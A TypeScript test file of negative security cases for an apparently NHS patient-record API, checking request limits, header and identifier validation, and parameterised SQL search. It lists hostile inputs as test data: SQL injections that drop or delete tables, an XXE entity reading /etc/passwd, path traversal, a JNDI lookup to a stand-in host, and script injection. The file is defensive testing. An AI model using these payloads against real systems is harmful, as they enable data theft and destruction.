/** SEC-20 to SEC-24: bounds of what is sent, and texts that want to be more than text. */
import { expect } from 'vitest';
import { searchCandidates } from '../../src/storage/national/search-patients.ts';
import { newcomer } from '../domain/pds/births.ts';
import { Edge, patching, refusalIn } from '../routes/support.ts';
import type { Sent } from '../routes/support.ts';
import { OWN, PATH } from './negative-case.ts';
import type { NegativeCase } from './negative-case.ts';

const nested = (open: string, close: string, depth: number): string => open.repeat(depth) + close.repeat(depth);
const jsonPatch = { 'Content-Type': 'application/json-patch+json' };
const patchOf = (body: string, headers: Record<string, string> = {}): Sent => patching({ body, headers });
const MEGABYTE = 1_048_576;

/** Takes no longer than this, however large: a bound that is found out late is none. */
const AT_ONCE_MS = 1_000;

const LIMITS: readonly (readonly [name: string, path: string, sent: Sent])[] = [
  ['a body of one byte too many', PATH, patchOf(`"${'x'.repeat(MEGABYTE - 1)}"`)],
  ['a body of ten megabytes', PATH, patchOf('x'.repeat(10 * MEGABYTE))],
  ['a declared length beyond the bound', PATH, patchOf('{}', { 'Content-Length': String(MEGABYTE + 1) })],
  ['a declared length that is no number', PATH, patchOf('{}', { 'Content-Length': '1e3x' })],
  ['lists in lists, 33 deep', PATH, patchOf(nested('[', ']', 33))],
  ['objects in objects, 1,000 deep', PATH, patchOf(nested('{"a":', '}', 1_000))],
  ['a hundred thousand brackets', PATH, patchOf('['.repeat(100_000))],
  ['a list of 1,001', PATH, patchOf(`{"patches":[${'1,'.repeat(1_000)}1]}`)],
  ['a list of a hundred thousand', PATH, patchOf(`[${'1,'.repeat(99_999)}1]`)],
  [
    'more than ten thousand values',
    PATH,
    patchOf(`{"patches":[${Array.from({ length: 20 }, () => `[${'1,'.repeat(600)}1]`).join(',')}]}`),
  ],
  ['a text of 262,145', PATH, patchOf(`{"patches":"${'x'.repeat(262_145)}"}`)],
  ['an address of 8,193', `${PATH}?${'x'.repeat(8_193)}`, {}],
  ['65 parameters', `/Patient?${'a=b&'.repeat(65)}`, {}],
  ['100,000 parameters', `/Patient?${'&'.repeat(100_000)}`, {}],
  ['a packed body', PATH, patchOf('{}', { 'Content-Encoding': 'gzip' })],
  ['a body packed twice', PATH, patchOf('{}', { 'Content-Encoding': 'gzip, br' })],
  ['a lone surrogate as name', PATH, patchOf('{"patches":[],"\\ud800":1}')],
  ['the same name twice', PATH, patchOf('{"patches":[],"patches":[]}')],
  ['a name spelt with an escape', PATH, patchOf('{"p\\u0061tches":[]}')],
  ['the prototype as a name', PATH, patchOf('{"patches":[],"__proto__":{"x":1}}')],
  ['no JSON at all', PATH, patchOf('<patches/>')],
  [
    'an XML document with an outside entity',
    PATH,
    patchOf('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
  ],
  ['another media type', PATH, patchOf('{"patches":[]}', { 'Content-Type': 'text/xml' })],
  [
    'an If-Match beyond all versions',
    PATH,
    patching({ headers: { ...jsonPatch, 'If-Match': `W/"${'9'.repeat(16)}"` } }),
  ],
  ['an If-Match that is a star', PATH, patching({ headers: { 'If-Match': '*' } })],
  ['an If-Match of two', PATH, patching({ headers: { 'If-Match': 'W/"1", W/"7"' } })],
  [
    'a Bundle of 51',
    '',
    {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: {
        resourceType: 'Bundle',
        type: 'batch',
        entry: Array.from({ length: 51 }, () => ({ request: { method: 'GET', url: PATH.slice(1) } })),
      },
    },
  ],
];

const limitCases = LIMITS.map(([name, path, sent]): NegativeCase => ({
  control: 'SEC-20',
  name,
  run: async () => {
    const edge = new Edge();
    const started = performance.now();
    const response = await edge.send(path, sent);
    expect(performance.now() - started).toBeLessThan(AT_ONCE_MS);
    expect([response.status >= 400 && response.status < 500, edge.spine.asked]).toEqual([true, []]);
  },
}));

const REQUEST_IDS = [
  '',
  'x',
  OWN,
  "' OR 1=1 --",
  '../../etc',
  '60e0b220-8136-4ca5-ae46-1d97ef59d068, 60e0b220-8136-4ca5-ae46-1d97ef59d068',
  '60e0b220-8136-4ca5-ae46-1d97ef59d06g',
  '{60e0b220-8136-4ca5-ae46-1d97ef59d068}',
];

const requestIdCases = REQUEST_IDS.map((requestId): NegativeCase => ({
  control: 'SEC-21',
  name: `the request id ${JSON.stringify(requestId)}`,
  run: async () => {
    const edge = new Edge();
    const response = await edge.send(PATH, { headers: { 'X-Request-ID': requestId } });
    expect([(await refusalIn(response)).status, edge.spine.asked]).toEqual([400, []]);
  },
}));

const NUMBERS = [
  '9000000000',
  '90000000090',
  '900000000',
  '९००००००००९',
  "9000000009'--",
  '9000000009%00',
  '%2e%2e',
  '9000000009;x',
  '%20',
];

const numberCases = NUMBERS.map((number): NegativeCase => ({
  control: 'SEC-22',
  name: `the NHS number ${number}`,
  run: async () => {
    const edge = new Edge();
    const response = await edge.send(`/Patient/${number}`);
    expect([response.status >= 400 && response.status < 500, edge.spine.asked]).toEqual([true, []]);
  },
}));

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE patient_token; --",
  "' UNION SELECT body FROM record_copies --",
  "x') OR 1=1 --",
  '" OR ""="',
  "\\'; --",
  "%' OR token LIKE '%",
  '_____',
  '*%',
  "0x27; ATTACH DATABASE '/tmp/x' AS x; --",
  '${jndi:ldap://evil.test}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  "Robert'); DELETE FROM patient_index;--",
];

/** A database that only notes what it is asked. */
function noting(): { readonly database: D1Database; readonly statements: { sql: string; bound: unknown[] }[] } {
  const statements: { sql: string; bound: unknown[] }[] = [];
  const prepare = (sql: string) => ({
    bind: (...bound: unknown[]) => {
      statements.push({ sql, bound });
      return { all: () => Promise.resolve({ results: [], success: true }) };
    },
  });
  return { database: { prepare } as unknown as D1Database, statements };
}

const injectionCases = INJECTIONS.flatMap((text): NegativeCase[] => [
  {
    control: 'SEC-23',
    name: `a search for ${text} is a parameter, never a piece of a statement`,
    run: async () => {
      const { database, statements } = noting();
      const national = { index: [database], records: [] };
      await searchCandidates(national, { tokens: [text], from: text, to: text });
      await searchCandidates(national, { tokens: [], prefix: text, from: '1900-01-01', to: text });
      expect(statements).toHaveLength(text >= '1900-01-01' ? 2 : 1);
      for (const { sql, bound } of statements) {
        expect(sql).not.toContain(text);
        expect(bound).toContain(text);
      }
    },
  },
  {
    control: 'SEC-24',
    name: `${text} sent as a name comes back as a text in JSON, if at all`,
    run: async () => {
      const edge = new Edge();
      const search = await edge.send(
        `/Patient?family=${encodeURIComponent(text)}&gender=female&birthdate=eq2010-10-22`,
      );
      const body = { ...newcomer(), gender: text };
      const made = await edge.send('/Patient', {
        method: 'POST',
        body,
        headers: { 'Content-Type': 'application/json' },
      });
      for (const response of [search, made]) {
        expect(response.headers.get('Content-Type')).toMatch(/json/);
        expect(response.headers.get('X-Content-Type-Options')).toBe('nosniff');
        expect(typeof JSON.parse(await response.text())).toBe('object');
        expect(response.status).toBeLessThan(500);
      }
    },
  },
]);

export const INPUT_CASES = [...limitCases, ...requestIdCases, ...numberCases, ...injectionCases];
